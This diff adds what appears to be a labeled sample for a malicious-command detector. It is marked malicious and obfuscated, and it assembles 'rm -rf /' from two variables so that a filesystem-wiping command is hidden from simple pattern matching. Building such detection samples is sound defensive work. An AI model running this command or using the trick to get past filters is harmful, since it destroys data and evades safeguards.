@@ -1,0 +1,3 @@
+# label: malicious; obfuscated: variables
+a=r; b=m
+$a$b -rf /
